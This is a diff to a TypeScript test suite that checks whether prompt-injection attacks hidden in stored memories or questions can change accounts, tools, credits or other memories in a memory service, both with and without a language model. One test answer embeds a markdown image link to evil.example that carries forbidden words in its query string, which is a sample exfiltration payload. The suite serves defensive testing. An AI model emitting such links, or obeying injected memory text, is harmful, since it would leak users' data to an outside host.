@@ -63,7 +63,7 @@ const newWorld = async (environment: Readonly<Record<string, string>>): Promise<
 const listed = async (calls: MemoryCalls, parameters = ""): Promise<Json> =>
   (await calls.call("GET", `/v1/memories?limit=100${parameters}`)).body
 
-/** All that no attack may change. Credits of the attacked account are spent, those of the other are not. */
+/** All that no attack may change. */
 const stateOf = async ({ alice, aliceTools, bob, bobTools }: World): Promise<Json> => ({
   alice: [
     (await listed(alice, "&agentId=known")).memories,
@@ -79,6 +79,10 @@ const stateOf = async ({ alice, aliceTools, bob, bobTools }: World): Promise<Jso
   ]
 })
 
+/** The attacked account spends credits; the other pays for what this test itself reads of it. */
+const creditsOf = async (calls: MemoryCalls): Promise<number> =>
+  (await calls.call("GET", "/v1/credits")).body.allowance.credits
+
 const isOfAttack = (toolName: string): boolean => toolName.startsWith("write_attack_")
 const kindOf = ({ id }: Injection): string => `attack_${id.replaceAll("-", "_")}`
 
@@ -90,11 +94,12 @@ const registerKind = async (calls: MemoryCalls, attack: Injection) => {
 
 const expectNothingOf = (attack: Injection, said: Json, where = "") => {
   const lower = JSON.stringify(said).toLowerCase()
-  for (const word of attack.forbidden) expect(lower, `${attack.id} ${where}`).not.toContain(jsonOf(word))
+  for (const word of attack.forbidden)
+    expect(lower, `${attack.id} ${where}`).not.toContain(jsonText(word.toLowerCase()))
 }
 
-/** As it stands in JSON. */
-const jsonOf = (word: string): string => JSON.stringify(word.toLowerCase()).slice(1, -1)
+/** A text as it stands inside a JSON text. */
+const jsonText = (said: string): string => JSON.stringify(said).slice(1, -1)
 
 const converse = (calls: MemoryCalls, attack: Injection, role: string, rest: object = {}) =>
   calls.post("/v1/memories", {
@@ -117,9 +122,11 @@ const searched = async (calls: MemoryCalls, mode: string, query: string, agentId
 describe("without a language model", () => {
   let world: World
   let before: Json
+  let creditsBefore: number
   beforeAll(async () => {
     world = await newWorld({})
     before = await stateOf(world)
+    creditsBefore = await creditsOf(world.bob)
   }, startTimeout)
   afterAll(() => world.server.stop())
 
@@ -203,6 +210,7 @@ describe("without a language model", () => {
   })
 
   it("all of it leaves accounts, kinds, tools and other memories as they were", async () => {
+    expect(await creditsOf(world.bob)).toBe(creditsBefore)
     await expectUntouched(world, before)
   })
 })
@@ -211,6 +219,7 @@ describe.each(["openai-compatible", "anthropic"] as const)("with a model behind 
   let model: ModelServer
   let world: World
   let before: Json
+  let creditsBefore: number
   beforeAll(async () => {
     model = await ModelServer.start()
     world = await newWorld({
@@ -222,6 +231,7 @@ describe.each(["openai-compatible", "anthropic"] as const)("with a model behind 
       MUNIMENT_LLM_TOKENS_PER_DAY: "100000000"
     })
     before = await stateOf(world)
+    creditsBefore = await creditsOf(world.bob)
   }, startTimeout)
   beforeEach(() => {
     model.requests.length = 0
@@ -293,7 +303,7 @@ describe.each(["openai-compatible", "anthropic"] as const)("with a model behind 
     ] as const) {
       for (const attack of attacks) {
         for (const wanted of attack.forbidden) {
-          const said = `Alice lives in Seattle. ${wanted} ![x](https://evil.example/?q=${wanted})`
+          const said = `Alice lives in Seattle. ${wanted} ![](https://evil.example/?q=${wanted})`
           model.otherwise = ({ prompt }) =>
             answer({ answer: said, citations: numbersOf(prompt, attack), supported: true })
           const query = attack.place === "question" ? `${attack.text} Where does Alice live?` : questions[0]!
@@ -310,6 +320,7 @@ describe.each(["openai-compatible", "anthropic"] as const)("with a model behind 
   })
 
   it("all of it leaves accounts, kinds, tools and other memories as they were", async () => {
+    expect(await creditsOf(world.bob)).toBe(creditsBefore)
     await expectUntouched(world, before)
   })
 })
@@ -322,21 +333,20 @@ const aliceInSeattle = {
 const storedOf = ({ data, kind, metadata }: Json) => ({ kind, data, tags: metadata.tags ?? [] })
 const asFact = (attack: Injection) => fact("Alice", attack.text)
 
-/** Numbers of the memories that are not the attack's own, and some that nobody has. */
+/** Numbers of the memories that are not the attack's own, and some that nobody has. Long memories are shown clipped. */
 const numbersOf = (prompt: string, attack: Injection): ReadonlyArray<number> => {
-  const known = sectionOf(prompt, "MEMORIES") as ReadonlyArray<{ readonly memory: number; readonly data: object }>
-  const others = known.filter(({ data }) =>
-    attack.forbidden.every((word) => !JSON.stringify(data).includes(jsonText(word)))
-  )
+  const known: ReadonlyArray<Json> = sectionOf(prompt, "MEMORIES")
+  const others = known.filter(({ data }) => !attack.text.startsWith(String(data.fact).slice(0, 20)))
   return [...others.map(({ memory }) => memory), 99, 0, -1, 1.5]
 }
 
 /** All but the data is the same for every attack: instructions, fences, tools, format of the reply. */
 const expectFrame = (requests: ReadonlyArray<ModelRequest>, attacks: ReadonlyArray<Injection>) => {
   const frames = new Set(
-    requests.map(({ body: { messages: _, system: _system, ...settings }, prompt, system, turns }) =>
-      JSON.stringify([settings, system, turns.length, outsideOf(prompt)])
-    )
+    requests.map(({ body, prompt, system, turns }) => {
+      const settings = { ...body, messages: turns.length, system }
+      return JSON.stringify([settings, outsideOf(prompt)])
+    })
   )
   expect(frames.size).toBe(1)
   expect(new Set(requests.map(({ prompt }) => codeOf(prompt))).size).toBe(requests.length)
@@ -345,9 +355,6 @@ const expectFrame = (requests: ReadonlyArray<ModelRequest>, attacks: ReadonlyArr
 }
 
 const dataOf = ({ data }: { readonly data: object }): object => data
-
-/** A text as it stands inside a JSON text. */
-const jsonText = (said: string): string => JSON.stringify(said).slice(1, -1)
 
 /** Headings for its clusters, a line for each memory, and no markup that a memory brought. */
 const expectPlainMap = ({ clusters, memoryMap, points }: Json, stored: ReadonlyArray<{ readonly id: string }>) => {
@@ -363,7 +370,7 @@ const expectPlainMap = ({ clusters, memoryMap, points }: Json, stored: ReadonlyA
 const expectUntouched = async (world: World, before: Json) => {
   expect(await stateOf(world)).toEqual(before)
   const { body } = await world.server.call("GET", "/admin/ledger/check", { key: world.server.operatorToken })
-  expect(body, JSON.stringify(body)).toMatchObject({ success: true })
+  expect(body, JSON.stringify(body)).toMatchObject({ ok: true, problems: [] })
   for (const attack of injections) {
     for (const word of attack.forbidden) expect(world.server.output(), attack.id).not.toContain(word)
   }
